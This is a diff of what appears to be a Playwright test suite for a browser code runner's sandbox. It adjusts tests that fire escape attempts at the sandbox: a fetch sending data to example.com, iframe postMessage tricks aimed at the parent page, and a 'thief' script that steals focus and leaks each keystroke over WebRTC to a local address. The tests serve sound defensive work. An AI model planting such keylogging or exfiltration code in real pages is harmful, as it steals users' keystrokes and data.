@@ -90,7 +90,7 @@ test("Python comes once it is asked for, runs and is ended", async ({ page }) =>
 });
 
 const attempts = `<script>
-const inFrame = (add) => new Promise((yes, no) => { addEventListener("message", yes); add(document.createElement("iframe")); setTimeout(no, 700); });
+const inFrame = (add) => new Promise((yes, no) => { addEventListener("message", ({ data }) => data === "hijo" && yes()); add(document.createElement("iframe")); setTimeout(no, 700); });
 const tries = {
   fetch: () => fetch("/api/health/live?robado"),
   otro: () => fetch("https://example.com/robado", { mode: "no-cors" }),
@@ -113,7 +113,7 @@ const tries = {
   lista: () => new Array(2 ** 26).fill(0),
   rtc: () => new RTCPeerConnection(),
   marco: () => inFrame((child) => { child.srcdoc = "<script>parent.postMessage('hijo', '*')</" + "script>"; document.body.append(child); }),
-  html: () => inFrame(() => { document.body.insertAdjacentHTML("beforeend", '<div><iframe srcdoc="<script>parent.postMessage(1, String.fromCharCode(42))</' + 'script>"></iframe></div>'); }),
+  html: () => inFrame(() => { document.body.insertAdjacentHTML("beforeend", '<div><iframe srcdoc="<script>parent.postMessage(&quot;hijo&quot;, &quot;*&quot;)</' + 'script>"></iframe></div>'); }),
   sombra: () => inFrame((child) => {
     child.srcdoc = "<script>top.postMessage('hijo', '*');parent.postMessage('hijo', '*')</" + "script>";
     const host = document.createElement("div");
@@ -203,14 +203,15 @@ test("what is typed beside code that takes the focus stays on the page, and a pa
   await area.press("Control+A");
   await page.keyboard.type("y otra");
   await expect(area).toHaveValue("y otra");
-  expect(await output.innerText()).not.toContain("tecla");
+  expect(await output.innerText()).not.toContain("pulsada");
   expect(heard).toEqual([]);
   udp.close();
 
   // A first field may have the focus once, and whoever presses into it writes there.
-  await run(page, "HTML", "<input autofocus><script>document.querySelector('input').focus()</script>");
+  await run(page, "HTML", "<input><script>document.querySelector('input').focus()</script>");
   const own = html.frameLocator("iframe").getByRole("textbox");
-  await own.click();
+  // What lies around the frame hears of the pointer first, and lets it in.
+  await own.click({ force: true });
   await page.keyboard.type("hola");
   await expect(own).toHaveValue("hola");
 
@@ -222,7 +223,7 @@ test("what is typed beside code that takes the focus stays on the page, and a pa
 /** Takes the focus again and again, and tells what is typed then: here, and to an address of ours. */
 const thief = (port: number) => `<input id="i"><script>
 addEventListener("keydown", ({ key }) => {
-  console.log("tecla", key);
+  console.log("pulsada", key);
   try { new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] }).createDataChannel(key); } catch {}
 });
 setInterval(() => i.focus(), 30);
